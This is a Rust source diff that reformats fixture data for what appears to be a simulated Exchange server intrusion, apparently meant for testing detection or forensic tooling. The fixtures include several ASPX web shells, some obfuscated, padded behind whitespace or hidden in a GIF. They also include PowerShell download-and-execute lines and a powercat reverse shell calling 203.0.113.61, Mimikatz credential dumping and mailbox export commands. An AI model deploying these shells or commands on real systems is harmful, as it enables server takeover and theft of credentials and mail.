@@ -30,7 +30,8 @@ pub(super) const HABITS: Habits = Habits {
     ],
 };
 
-const USERS: &[&str] = &["a.lindqvist", "b.okafor", "c.moreau", "hanako.sato", "j.petrov", "m.kaya", "r.delgado", "t.nakamura"];
+const USERS: &[&str] =
+    &["a.lindqvist", "b.okafor", "c.moreau", "hanako.sato", "j.petrov", "m.kaya", "r.delgado", "t.nakamura"];
 
 const NORTH: Host = Host {
     name: "NMAIL01",
@@ -152,10 +153,12 @@ const STARLING: Intruder = Intruder {
     commands: &["powershell -nop -c \"Get-Process lsass\"", "cmd /c nltest /domain_trusts"],
 };
 
-const GULL: Intruder = Intruder { addresses: &["192.0.2.77"], chain_agent: "curl/7.68.0", stem: "/ecp/default.flt", ..HERON };
+const GULL: Intruder =
+    Intruder { addresses: &["192.0.2.77"], chain_agent: "curl/7.68.0", stem: "/ecp/default.flt", ..HERON };
 const CROW: Intruder = Intruder { addresses: &["192.0.2.130", "192.0.2.131"], stem: "/owa/auth/w.js", ..STARLING };
 
-const WRITTEN: &str = "<%@ Page Language=\"JSc¦ript\" Debug=\"true\"%><%ev¦al(Req¦uest.Item[\"d8s\"],\"uns¦afe\");%>\r\n";
+const WRITTEN: &str =
+    "<%@ Page Language=\"JSc¦ript\" Debug=\"true\"%><%ev¦al(Req¦uest.Item[\"d8s\"],\"uns¦afe\");%>\r\n";
 
 const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
 const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
@@ -218,13 +221,38 @@ const AFTERMATH: Aftermath = Aftermath {
         },
     ],
     left: &[
-        Left { technique: Technique::CredentialDump, path: "C:\\root\\ls.dmp", head: b"MDMP\x93\xa7\0\0", size: 40_000 },
-        Left { technique: Technique::StagedArchive, path: "C:\\ProgramData\\docs.7z", head: b"7z\xbc\xaf\x27\x1c\0\x04", size: 9_000 },
-        Left { technique: Technique::CredentialDump, path: "C:\\Windows\\Temp\\lsass_20210304.dmp", head: b"MDMP\x93\xa7\0\0", size: 30_000 },
-        Left { technique: Technique::StagedArchive, path: "C:\\inetpub\\wwwroot\\aspnet_client\\it.zip", head: b"PK\x03\x04\x14\0\x01\0", size: 6_000 },
+        Left {
+            technique: Technique::CredentialDump,
+            path: "C:\\root\\ls.dmp",
+            head: b"MDMP\x93\xa7\0\0",
+            size: 40_000,
+        },
+        Left {
+            technique: Technique::StagedArchive,
+            path: "C:\\ProgramData\\docs.7z",
+            head: b"7z\xbc\xaf\x27\x1c\0\x04",
+            size: 9_000,
+        },
+        Left {
+            technique: Technique::CredentialDump,
+            path: "C:\\Windows\\Temp\\lsass_20210304.dmp",
+            head: b"MDMP\x93\xa7\0\0",
+            size: 30_000,
+        },
+        Left {
+            technique: Technique::StagedArchive,
+            path: "C:\\inetpub\\wwwroot\\aspnet_client\\it.zip",
+            head: b"PK\x03\x04\x14\0\x01\0",
+            size: 6_000,
+        },
     ],
     tasks: &[
-        ("VSPerfMon2", "powershell.exe", "-nop -w hidden -e¦p bypass -c \"IEX (New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.61/t')\"", 45),
+        (
+            "VSPerfMon2",
+            "powershell.exe",
+            "-nop -w hidden -e¦p bypass -c \"IEX (New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.61/t')\"",
+            45,
+        ),
         ("Microsoft\\Windows\\SoftwareInspector\\Check", "C:\\ProgramData\\sih.exe", "-s", 10),
     ],
     services: &[
@@ -234,18 +262,36 @@ const AFTERMATH: Aftermath = Aftermath {
     account: "DefaultAccount2",
     scripts: &[
         (Technique::Download, "IEX ((New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.61/a.ps1'))"),
-        (Technique::RemoteTool, "IEX (New-Object System.Net.Web¦client).Down¦loadString('http://203.0.113.61/power¦cat.ps1'); power¦cat -c 203.0.113.61 -p 443 -e cmd"),
+        (
+            Technique::RemoteTool,
+            "IEX (New-Object System.Net.Web¦client).Down¦loadString('http://203.0.113.61/power¦cat.ps1'); power¦cat -c 203.0.113.61 -p 443 -e cmd",
+        ),
         (Technique::CredentialDump, "Import-Module .\\Invoke-Mimi¦katz.ps1; Invoke-Mimi¦katz -Dump¦Creds"),
     ],
     management: &[
-        (Technique::MailboxExport, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"Administrator\""),
-        (Technique::MailboxExport, "New-MailboxExportRequest", "-Mailbox \"MAILBOX\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\m.pst\""),
-        (Technique::MailboxAccess, "Add-MailboxPermission", "-Identity \"MAILBOX\" -User \"DefaultAccount2\" -AccessRights \"FullAccess\""),
+        (
+            Technique::MailboxExport,
+            "New-ManagementRoleAssignment",
+            "-Role \"Mailbox Import Export\" -User \"Administrator\"",
+        ),
+        (
+            Technique::MailboxExport,
+            "New-MailboxExportRequest",
+            "-Mailbox \"MAILBOX\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\m.pst\"",
+        ),
+        (
+            Technique::MailboxAccess,
+            "Add-MailboxPermission",
+            "-Identity \"MAILBOX\" -User \"DefaultAccount2\" -AccessRights \"FullAccess\"",
+        ),
     ],
     fetched: ("/aspnet_client/it.zip", None),
     module: ("HttpCompressModule", "C:\\Users\\Public\\httpcomp.dll"),
     typed: &[
-        (Technique::MailboxExport, "Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false"),
+        (
+            Technique::MailboxExport,
+            "Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false",
+        ),
         (Technique::Download, "Invoke-Web¦Request http://203.0.113.61/7z.exe -OutFile C:\\ProgramData\\7z.exe"),
     ],
     hosts: &["127.0.0.1 wdcp.microsoft.com", "127.0.0.1 officecdn.microsoft.com"],
@@ -260,42 +306,118 @@ const AFTERMATH: Aftermath = Aftermath {
 };
 
 const ODD_CODE: [OddPage; 8] = [
-    odd(OWA_AUTH, "expire.aspx", "JScript with escapes of Unicode",
-        "<%@ Page Language=\"Jscript\"%><%var a=Req¦uest.Item[\"p9\"];\\u0065v\\u0061l(a,\"un\"+\"sa\"+\"fe\");%>"),
-    odd(ASPNET, "frame.aspx", "C# that starts processes by reflection over split names",
-        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s,EventArgs e){var t=Type.GetType(\"System.Diag\"+\"nostics.Pro\"+\"cess, System\");var m=t.GetMethod(\"St\"+\"art\",new[]{typeof(string),typeof(string)});Response.Write(m.Invoke(null,new object[]{Req¦uest[\"f\"],Req¦uest[\"a\"]}));}</script>"),
-    odd(ASPNET, "legacy.aspx", "VB over a COM object by a split name",
-        "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load()\r\nDim o=CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\nResponse.Write(o.Ex¦ec(\"cmd /c \" & Req¦uest(\"k\")).StdOut.ReadAll())\r\nEnd Sub</script>"),
-    odd(SYSTEM_WEB, "loader.aspx", "C# that loads an assembly out of the request",
-        "<%@ Page Language=\"C#\" %><%var k=Encoding.Default.GetBytes(\"e45e329feb5d925b\");var r=Req¦uest.BinaryRead(Req¦uest.ContentLength);System.Reflection.Assem¦bly.Lo¦ad(new System.Security.Cryptography.Rijndael¦Managed().CreateDecryptor(k,k).TransformFinalBlock(r,0,r.Length)).CreateInstance(\"U\").Equals(this);%>"),
-    odd(OWA_AUTH, "report.ashx", "a handler that writes what it is sent to a file",
-        "<%@ WebHandler Language=\"C#\" Class=\"R\" %>using System.IO;using System.Web;public class R:IHttpHandler{public void ProcessRequest(HttpContext c){File.Write¦AllBytes(c.Req¦uest[\"p\"],System.Convert.From¦Base64String(c.Req¦uest[\"d\"]));}public bool IsReusable{get{return true;}}}"),
-    odd(ECP_AUTH, "Timeout.aspx", "eval by Invoke-Expression in a hosted shell",
-        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management.Automation\" %><%var p=System.Management.Automation.Power¦Shell.Create();p.Add¦Script(Encoding.UTF8.GetString(Convert.From¦Base64String(Req¦uest.Headers[\"X-Req\"])));foreach(var o in p.Invoke())Response.Write(o);%>"),
-    OddPage { encoding: Encoding::Wide, ..odd(ASPNET, "wide.aspx", "stored as UTF-16",
-        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"w\"],\"uns¦afe\");%>") },
-    odd(ASPNET, "pad.aspx", "the script stands behind much blank space in a page that looks harmless",
-        concat!("<html><head><title>Not found</title></head><body><h1>404</h1></body></html>\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n",
-        "                                                                                                              ",
-        "<script language=\"c#\" runat=\"server\">protected void Page_Load(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"z\"]);}</script>")),
+    odd(
+        OWA_AUTH,
+        "expire.aspx",
+        "JScript with escapes of Unicode",
+        "<%@ Page Language=\"Jscript\"%><%var a=Req¦uest.Item[\"p9\"];\\u0065v\\u0061l(a,\"un\"+\"sa\"+\"fe\");%>",
+    ),
+    odd(
+        ASPNET,
+        "frame.aspx",
+        "C# that starts processes by reflection over split names",
+        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s,EventArgs e){var t=Type.GetType(\"System.Diag\"+\"nostics.Pro\"+\"cess, System\");var m=t.GetMethod(\"St\"+\"art\",new[]{typeof(string),typeof(string)});Response.Write(m.Invoke(null,new object[]{Req¦uest[\"f\"],Req¦uest[\"a\"]}));}</script>",
+    ),
+    odd(
+        ASPNET,
+        "legacy.aspx",
+        "VB over a COM object by a split name",
+        "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load()\r\nDim o=CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\nResponse.Write(o.Ex¦ec(\"cmd /c \" & Req¦uest(\"k\")).StdOut.ReadAll())\r\nEnd Sub</script>",
+    ),
+    odd(
+        SYSTEM_WEB,
+        "loader.aspx",
+        "C# that loads an assembly out of the request",
+        "<%@ Page Language=\"C#\" %><%var k=Encoding.Default.GetBytes(\"e45e329feb5d925b\");var r=Req¦uest.BinaryRead(Req¦uest.ContentLength);System.Reflection.Assem¦bly.Lo¦ad(new System.Security.Cryptography.Rijndael¦Managed().CreateDecryptor(k,k).TransformFinalBlock(r,0,r.Length)).CreateInstance(\"U\").Equals(this);%>",
+    ),
+    odd(
+        OWA_AUTH,
+        "report.ashx",
+        "a handler that writes what it is sent to a file",
+        "<%@ WebHandler Language=\"C#\" Class=\"R\" %>using System.IO;using System.Web;public class R:IHttpHandler{public void ProcessRequest(HttpContext c){File.Write¦AllBytes(c.Req¦uest[\"p\"],System.Convert.From¦Base64String(c.Req¦uest[\"d\"]));}public bool IsReusable{get{return true;}}}",
+    ),
+    odd(
+        ECP_AUTH,
+        "Timeout.aspx",
+        "eval by Invoke-Expression in a hosted shell",
+        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management.Automation\" %><%var p=System.Management.Automation.Power¦Shell.Create();p.Add¦Script(Encoding.UTF8.GetString(Convert.From¦Base64String(Req¦uest.Headers[\"X-Req\"])));foreach(var o in p.Invoke())Response.Write(o);%>",
+    ),
+    OddPage {
+        encoding: Encoding::Wide,
+        ..odd(
+            ASPNET,
+            "wide.aspx",
+            "stored as UTF-16",
+            "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"w\"],\"uns¦afe\");%>",
+        )
+    },
+    odd(
+        ASPNET,
+        "pad.aspx",
+        "the script stands behind much blank space in a page that looks harmless",
+        concat!(
+            "<html><head><title>Not found</title></head><body><h1>404</h1></body></html>\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n",
+            "                                                                                                              ",
+            "<script language=\"c#\" runat=\"server\">protected void Page_Load(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"z\"]);}</script>"
+        ),
+    ),
 ];
 
 const fn odd(place: Place, name: &'static str, how: &'static str, text: &'static str) -> OddPage {
-    OddPage { page: Page { place, name }, text, how, technique: Technique::ShellFile, dated: None, encoding: Encoding::Plain }
+    OddPage {
+        page: Page { place, name },
+        text,
+        how,
+        technique: Technique::ShellFile,
+        dated: None,
+        encoding: Encoding::Plain,
+    }
 }
 
-const HARMLESS: &str = "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n<!--#include file=\"..\\scripts\\logo.gif\"-->\r\n";
+const HARMLESS: &str =
+    "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n<!--#include file=\"..\\scripts\\logo.gif\"-->\r\n";
 
 const ODD_PLACES: [OddPage; 6] = [
-    odd(OAB, "offline.aspx", "in the address book's folder",
-        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"oab\"],\"uns¦afe\");%>"),
-    OddPage { dated: Some(Moment::day(2019, 6, 18).clock(4, 11, 2)), ..odd(THEMES, "lgnexlogo.aspx", "back-dated to the day of the installation",
-        "<%@ Page Language=\"C#\"%><%System.Diagnostics.Pro¦cess.St¦art(Req¦uest[\"c\"]);%>") },
+    odd(
+        OAB,
+        "offline.aspx",
+        "in the address book's folder",
+        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"oab\"],\"uns¦afe\");%>",
+    ),
+    OddPage {
+        dated: Some(Moment::day(2019, 6, 18).clock(4, 11, 2)),
+        ..odd(
+            THEMES,
+            "lgnexlogo.aspx",
+            "back-dated to the day of the installation",
+            "<%@ Page Language=\"C#\"%><%System.Diagnostics.Pro¦cess.St¦art(Req¦uest[\"c\"]);%>",
+        )
+    },
     odd(OWA_AUTH, "layout.aspx", "a page that includes a picture", HARMLESS),
-    odd(Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\owa\\scripts", url: "/owa/scripts", protocol: Some("Owa") }, "logo.gif", "the picture that it includes",
-        "GIF89a\u{1}\u{1}<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){ev¦al(Req¦uest[\"gif\"],\"uns¦afe\");}</scr¦ipt>"),
-    OddPage { technique: Technique::HandlerChange, ..odd(Place { below: Below::Site, folder: "aspnet_client\\img", url: "/aspnet_client/img", protocol: None }, "web.config", "pictures are run as pages in this folder",
-        "<?xml version=\"1.0\"?><configuration><system.webServer><handlers><add name=\"png\" path=\"*.png\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers></system.webServer><system.web><compilation><buildProviders><add extension=\".png\" type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders></compilation></system.web></configuration>") },
-    odd(BIN, "App_Web_3kq0zrx1.dll", "a compiled page in the site's own library folder",
-        "MZ\u{0}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}mscoree.dll\u{0}_CorDllMain\u{0}System.Web.UI.Page\u{0}ProcessStartInfo\u{0}cmd.exe\u{0}"),
+    odd(
+        Place {
+            below: Below::Product,
+            folder: "FrontEnd\\HttpProxy\\owa\\scripts",
+            url: "/owa/scripts",
+            protocol: Some("Owa"),
+        },
+        "logo.gif",
+        "the picture that it includes",
+        "GIF89a\u{1}\u{1}<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){ev¦al(Req¦uest[\"gif\"],\"uns¦afe\");}</scr¦ipt>",
+    ),
+    OddPage {
+        technique: Technique::HandlerChange,
+        ..odd(
+            Place { below: Below::Site, folder: "aspnet_client\\img", url: "/aspnet_client/img", protocol: None },
+            "web.config",
+            "pictures are run as pages in this folder",
+            "<?xml version=\"1.0\"?><configuration><system.webServer><handlers><add name=\"png\" path=\"*.png\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers></system.webServer><system.web><compilation><buildProviders><add extension=\".png\" type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders></compilation></system.web></configuration>",
+        )
+    },
+    odd(
+        BIN,
+        "App_Web_3kq0zrx1.dll",
+        "a compiled page in the site's own library folder",
+        "MZ\u{0}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}mscoree.dll\u{0}_CorDllMain\u{0}System.Web.UI.Page\u{0}ProcessStartInfo\u{0}cmd.exe\u{0}",
+    ),
 ];
